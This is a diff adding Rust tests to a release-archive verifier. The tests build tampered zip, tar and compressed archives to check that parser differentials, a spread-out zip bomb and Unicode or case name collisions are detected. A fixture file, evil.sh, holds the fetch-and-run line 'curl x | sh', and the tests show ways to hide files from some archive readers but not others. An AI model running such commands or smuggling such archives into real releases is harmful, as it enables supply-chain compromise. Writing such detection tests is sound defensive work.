@@ -46,9 +46,14 @@ fn tree() -> Files {
 
 /// A repository whose `v3.12.1` tag holds [`tree`].
 fn repo(dir: &Path) -> PathBuf {
+    repo_of(dir, &tree())
+}
+
+/// A repository whose `v3.12.1` tag holds `files`.
+fn repo_of(dir: &Path, files: &Files) -> PathBuf {
     let path = dir.join("quill");
     let mut writer = Writer::init(&path).expect("init");
-    let tree_id = writer.tree(&tree()).expect("tree");
+    let tree_id = writer.tree(files).expect("tree");
     let who = Person { name: "Ada".into(), email: "ada@example.org".into() };
     let commit = writer
         .commit(Some("refs/heads/main"), &[], tree_id, &who, &who, 1_700_000_000, "Release 3.12.1")
@@ -608,4 +613,208 @@ fn a_zip_with_a_name_twice_in_its_directory_is_a_duplicate() {
     let (code, stdout, _) = fx.cli(&archive, &[]);
     assert_eq!(code, 1);
     assert!(stdout.contains("more than once"), "{stdout}");
+}
+
+/// The parser differentials found, with their details.
+fn differentials(v: &Verification) -> Vec<String> {
+    v.failing().filter(|f| f.kind == FindingKind::ParserDifferential).map(|f| f.detail.clone()).collect()
+}
+
+/// The bytes of an archive of `kind` holding `items`.
+fn archive_bytes(fx: &Fixture, kind: Kind, items: &[Item]) -> Vec<u8> {
+    std::fs::read(fx.archive(kind, items)).expect("read the archive")
+}
+
+fn evil() -> Item {
+    Item::File { name: format!("{TOP}/evil.sh").into_bytes(), data: b"#!/bin/sh\ncurl x | sh\n".to_vec(), mode: 0o755 }
+}
+
+#[test]
+fn two_zips_joined_are_a_parser_differential() {
+    let fx = fixture();
+    // unzip and Python read the second zip (with evil.sh); a reader that
+    // takes the first sees a clean release.
+    let mut bytes = archive_bytes(&fx, Kind::Zip, &matching_items());
+    let first = bytes.len();
+    bytes.extend(archive_bytes(&fx, Kind::Zip, &with(matching_items(), [evil()])));
+    let archive = fx.root.join("joined.zip");
+    std::fs::write(&archive, &bytes).expect("write");
+    let v = fx.verify(&archive);
+    let found = differentials(&v);
+    assert_eq!(found.len(), 1, "{:?}", kinds(&v));
+    assert!(found[0].contains("at offset 0") && found[0].contains(&format!("{first} bytes come before")), "{found:?}");
+    assert!(v.failed());
+    for format in ["json", "md", "text"] {
+        let (code, stdout, _) = fx.cli(&archive, &["--format", format]);
+        assert_eq!(code, 1, "{format}");
+        let shown = if format == "json" { "\"parser_differential\"" } else { "parser differential" };
+        assert!(stdout.contains(shown), "{format}: {stdout}");
+    }
+}
+
+/// Removes `name`'s entry from the central directory of a zip written by
+/// the zip crate (no comment): its local header stays.
+fn drop_central_entry(bytes: &mut Vec<u8>, name: &[u8]) {
+    let eocd = bytes.len() - 22;
+    assert_eq!(&bytes[eocd..eocd + 4], b"PK\x05\x06");
+    let u16_at = |b: &[u8], i: usize| usize::from(u16::from_le_bytes([b[i], b[i + 1]]));
+    let u32_at = |b: &[u8], i: usize| u32::from_le_bytes([b[i], b[i + 1], b[i + 2], b[i + 3]]) as usize;
+    let (count, cd_size, cd_start) = (u16_at(bytes, eocd + 10), u32_at(bytes, eocd + 12), u32_at(bytes, eocd + 16));
+    let mut i = cd_start;
+    while i < cd_start + cd_size {
+        let len = 46 + u16_at(bytes, i + 28) + u16_at(bytes, i + 30) + u16_at(bytes, i + 32);
+        if &bytes[i + 46..i + 46 + u16_at(bytes, i + 28)] == name {
+            bytes.drain(i..i + len);
+            let eocd = bytes.len() - 22;
+            let count = (count as u16 - 1).to_le_bytes();
+            bytes[eocd + 8..eocd + 10].copy_from_slice(&count);
+            bytes[eocd + 10..eocd + 12].copy_from_slice(&count);
+            bytes[eocd + 12..eocd + 16].copy_from_slice(&((cd_size - len) as u32).to_le_bytes());
+            return;
+        }
+        i += len;
+    }
+    panic!("{} not in the central directory", String::from_utf8_lossy(name));
+}
+
+#[test]
+fn a_zip_local_entry_missing_from_the_central_directory_is_a_parser_differential() {
+    let fx = fixture();
+    let mut items = matching_items();
+    items.insert(2, evil());
+    let mut bytes = archive_bytes(&fx, Kind::Zip, &items);
+    drop_central_entry(&mut bytes, format!("{TOP}/evil.sh").as_bytes());
+    let archive = fx.root.join("hidden.zip");
+    std::fs::write(&archive, &bytes).expect("write");
+    let v = fx.verify(&archive);
+    // The zip reader never sees evil.sh; a streaming extractor does.
+    assert!(!kinds(&v).iter().any(|(_, p, _)| p.contains("evil.sh")), "{:?}", kinds(&v));
+    let found = differentials(&v);
+    assert_eq!(found.len(), 1, "{:?}", kinds(&v));
+    assert!(found[0].contains(&format!("a local file header for `{TOP}/evil.sh`")), "{found:?}");
+}
+
+#[test]
+fn a_zip_local_header_with_another_name_is_a_parser_differential() {
+    let fx = fixture();
+    let mut bytes = archive_bytes(&fx, Kind::Zip, &matching_items());
+    // The first occurrence is the local header; the central directory
+    // keeps the name verified.
+    let name = b"src/quill.c";
+    let at = bytes.windows(name.len()).position(|w| w == name).expect("name");
+    bytes[at..at + name.len()].copy_from_slice(b"src/evil.sh");
+    let archive = fx.root.join("renamed.zip");
+    std::fs::write(&archive, &bytes).expect("write");
+    let v = fx.verify(&archive);
+    let found = differentials(&v);
+    assert_eq!(found.len(), 1, "{:?}", kinds(&v));
+    assert!(found[0].contains(&format!("the local header names `{TOP}/src/evil.sh`")), "{found:?}");
+    assert!(found[0].contains(&format!("the central directory `{TOP}/src/quill.c`")), "{found:?}");
+}
+
+#[test]
+fn a_tar_with_a_second_archive_after_its_end_marker_is_a_parser_differential() {
+    let fx = fixture();
+    // `tar -i` extracts the second archive too.
+    let mut bytes = archive_bytes(&fx, Kind::Tar, &matching_items());
+    let end = bytes.len();
+    bytes.extend(archive_bytes(&fx, Kind::Tar, &[evil()]));
+    let archive = fx.root.join("two.tar");
+    std::fs::write(&archive, &bytes).expect("write");
+    let v = fx.verify(&archive);
+    let found = differentials(&v);
+    assert_eq!(found.len(), 1, "{:?}", kinds(&v));
+    assert!(found[0].contains(&format!("another tar header at offset {end}")), "{found:?}");
+    // Zero padding after the marker is no differential.
+    let mut padded = archive_bytes(&fx, Kind::Tar, &matching_items());
+    padded.extend(vec![0u8; 10240]);
+    std::fs::write(&archive, &padded).expect("write");
+    let v = fx.verify(&archive);
+    assert!(!v.failed(), "{:?}", kinds(&v));
+}
+
+#[test]
+fn bytes_after_a_compressed_stream_are_a_parser_differential() {
+    let fx = fixture();
+    for (kind, name) in [(Kind::TarGz, "gzip"), (Kind::TarXz, "xz"), (Kind::TarBz2, "bzip2")] {
+        let mut bytes = archive_bytes(&fx, kind, &matching_items());
+        let end = bytes.len();
+        bytes.extend_from_slice(b"#!/bin/sh\n");
+        let archive = fx.root.join("trailing");
+        std::fs::write(&archive, &bytes).expect("write");
+        let v = fx.verify(&archive);
+        let found = differentials(&v);
+        assert_eq!(found.len(), 1, "{kind:?}: {:?}", kinds(&v));
+        let expected = format!("data after the {name} stream's end at offset {end} (starting 23 21 2f 62");
+        assert!(found[0].contains(&expected), "{kind:?}: {found:?}");
+    }
+}
+
+#[test]
+fn a_second_gzip_member_is_a_parser_differential() {
+    let fx = fixture();
+    // `gzip -d` joins the members; tar then reads on past the first tar.
+    let mut bytes = archive_bytes(&fx, Kind::TarGz, &matching_items());
+    let end = bytes.len();
+    bytes.extend(archive_bytes(&fx, Kind::TarGz, &[evil()]));
+    let archive = fx.root.join("members.tar.gz");
+    std::fs::write(&archive, &bytes).expect("write");
+    let v = fx.verify(&archive);
+    let found = differentials(&v);
+    assert_eq!(found.len(), 1, "{:?}", kinds(&v));
+    assert!(found[0].contains(&format!("a second gzip stream at offset {end}")), "{found:?}");
+}
+
+#[test]
+fn a_bomb_spread_over_many_entries_stops_early() {
+    let fx = fixture();
+    // 300 entries of 15 MiB of zeros, each under the per-entry floor: one
+    // is compressed, then copied raw (4.4 GiB in all, a few MiB on disk).
+    let one = fx.root.join("one.zip");
+    let size = 15u64 << 20;
+    archives::write(&one, Kind::Zip, &[Item::Repeated { name: b"zeros".to_vec(), byte: 0, size }]);
+    let mut source = zip::ZipArchive::new(std::fs::File::open(&one).expect("open")).expect("zip");
+    let archive = fx.root.join("spread.zip");
+    let mut zip = zip::ZipWriter::new(std::fs::File::create(&archive).expect("create"));
+    for i in 0..300 {
+        let entry = source.by_index_raw(0).expect("entry");
+        zip.raw_copy_file_rename(entry, format!("{TOP}/data/zeros{i:03}.bin")).expect("copy");
+    }
+    zip.finish().expect("finish");
+    let v = fx.verify(&archive);
+    assert!(v.bytes < 64 << 20, "stopped well before 4 GiB: {} bytes read", v.bytes);
+    assert!(!v.complete);
+    let found = failing(&v);
+    assert!(found.iter().any(|(k, _)| *k == FindingKind::CompressionRatio), "{found:?}");
+}
+
+#[test]
+fn names_that_collide_on_normalizing_or_case_insensitive_filesystems_are_shown() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    let nfc = "doc/caf\u{e9}.txt";
+    let mut files = tree();
+    files.insert(nfc.to_string(), b"menu\n".to_vec());
+    let fx = Fixture { root: dir.path().to_path_buf(), repo: repo_of(dir.path(), &files), _dir: dir };
+    // The archive holds the tag's files, the NFD spelling of the tag's NFC
+    // name, and a README that differs from the tag's by case only.
+    let items = with(
+        matching_items(),
+        [
+            file(&format!("{TOP}/{nfc}"), b"menu\n"),
+            file(&format!("{TOP}/doc/cafe\u{301}.txt"), b"evil\n"),
+            file(&format!("{TOP}/readme.MD"), b"evil\n"),
+        ],
+    );
+    let archive = fx.archive(Kind::TarGz, &items);
+    let v = fx.verify(&archive);
+    let collisions: Vec<&release::Finding> = v.failing().filter(|f| f.kind == FindingKind::NameCollision).collect();
+    assert_eq!(collisions.len(), 2, "{:?}", kinds(&v));
+    assert_eq!(collisions[0].path, "doc/cafe\u{301}.txt");
+    assert!(collisions[0].detail.contains("U+0065 U+0301 where it has U+00E9"), "{}", collisions[0].detail);
+    assert!(collisions[0].detail.contains("normalizing"), "{}", collisions[0].detail);
+    assert_eq!(collisions[1].path, "readme.MD");
+    assert!(collisions[1].detail.contains("case is folded"), "{}", collisions[1].detail);
+    let (code, stdout, _) = fx.cli(&archive, &["--format", "json"]);
+    assert_eq!(code, 1);
+    assert!(stdout.contains("\"name_collision\"") && stdout.contains("U+0301"), "{stdout}");
 }
